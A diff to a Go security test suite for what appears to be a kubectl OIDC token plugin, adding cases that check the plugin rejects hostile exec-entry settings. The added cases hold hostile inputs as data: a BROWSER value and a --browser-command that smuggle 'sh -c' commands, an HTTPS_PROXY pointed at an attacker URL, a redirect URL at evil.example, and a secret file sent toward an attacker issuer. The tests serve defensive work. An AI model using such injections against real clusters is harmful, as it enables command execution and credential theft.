@@ -105,8 +105,16 @@ func TestExecEntryAttacks(t *testing.T) {
 		{name: "kuberc allowlist: the entry's env moves $KUBERC away", server: evil, kuberc: true,
 			args: []string{"--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials"},
 			env:  []string{"KUBECTL_IMPERSONATE_CLIENT_SECRET=ambient-secret", "KUBERC=off"}, wantErr: "allowlists this plugin"},
+		{name: "$HTTPS_PROXY and $SSL_CERT_FILE from the entry (a proxy it trusts)", server: allowed, args: []string{"--profile=tenant", "--force-refresh"},
+			env: []string{"HTTPS_PROXY=" + attackerURL, "SSL_CERT_FILE=" + secret}, wantErr: "$HTTPS_PROXY, $SSL_CERT_FILE"},
+		{name: "$BROWSER from the entry (xdg-open runs it)", server: allowed, args: []string{"--profile=tenant", "--force-refresh"},
+			env: []string{"BROWSER=sh -c 'touch " + pwned + "'"}, wantErr: "$BROWSER"},
+		{name: "$DBUS_SESSION_BUS_ADDRESS from the entry (the keyring's bus)", server: allowed, args: []string{"--profile=tenant", "--token-cache-storage=keyring"},
+			env: []string{"DBUS_SESSION_BUS_ADDRESS=tcp:host=127.0.0.1,port=9"}, wantErr: "$DBUS_SESSION_BUS_ADDRESS"},
+		{name: "--oidc-redirect-url off loopback for the keyboard flow", server: allowed, args: []string{"--profile=tenant", "--grant-type=authcode-keyboard", "--oidc-redirect-url=https://evil.example/cb"},
+			wantErr: "--oidc-redirect-url"},
 	}
-	require.Len(t, attacks, 18, "README's count: 16 attacks and 2 control rows")
+	require.Len(t, attacks, 22, "README's count: 20 attacks and 2 control rows")
 	for _, tt := range attacks {
 		for _, bin := range []string{"fast", "full"} {
 			t.Run(bin+"/"+tt.name, func(t *testing.T) {
@@ -114,12 +122,12 @@ func TestExecEntryAttacks(t *testing.T) {
 					writeKuberc(t)
 				}
 				before := hits.Load()
-				env := append([]string{"KUBERNETES_EXEC_INFO=" + execInfoFor(tt.server)}, tt.env...)
+				kubectl := []string{"KUBERNETES_EXEC_INFO=" + execInfoFor(tt.server)}
 				var r result
 				if bin == "fast" {
-					r = e.runBinary(fastBinary, env, tt.args...)
+					r = e.runAsKubectl(fastBinary, kubectl, tt.env, tt.args...)
 				} else {
-					r = e.run(env, append([]string{"get-token"}, tt.args...)...)
+					r = e.runAsKubectl(binary, kubectl, tt.env, append([]string{"get-token"}, tt.args...)...)
 				}
 				if tt.wantErr == "" {
 					require.Equal(t, 0, r.code, r.stderr)
@@ -142,6 +150,22 @@ func TestExecEntryAttacks(t *testing.T) {
 			})
 		}
 	}
+
+	t.Run("an exec entry runs another command than get-token", func(t *testing.T) {
+		writeKuberc(t)
+		before := hits.Load()
+		for _, args := range [][]string{
+			{"login", "--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x", "--grant-type=client-credentials", "--oidc-client-secret-file=" + secret},
+			{"-v", "1", "login", "--browser-command=sh -c 'touch " + pwned + "'"},
+			{"setup", "--write", "--oidc-issuer-url=" + attackerURL, "--oidc-client-id=x"},
+		} {
+			r := e.runAsKubectl(binary, []string{"KUBERNETES_EXEC_INFO=" + execInfoFor(allowed)}, nil, args...)
+			assert.Equal(t, 1, r.code, r.stderr)
+			assert.Contains(t, r.stderr, "only get-token may run that way")
+		}
+		assert.Equal(t, before, hits.Load())
+		assert.NoFileExists(t, pwned)
+	})
 
 	t.Run("control: without a kuberc or a profile, the entry's issuer is contacted (not covered: docs/security.md)", func(t *testing.T) {
 		before := hits.Load()
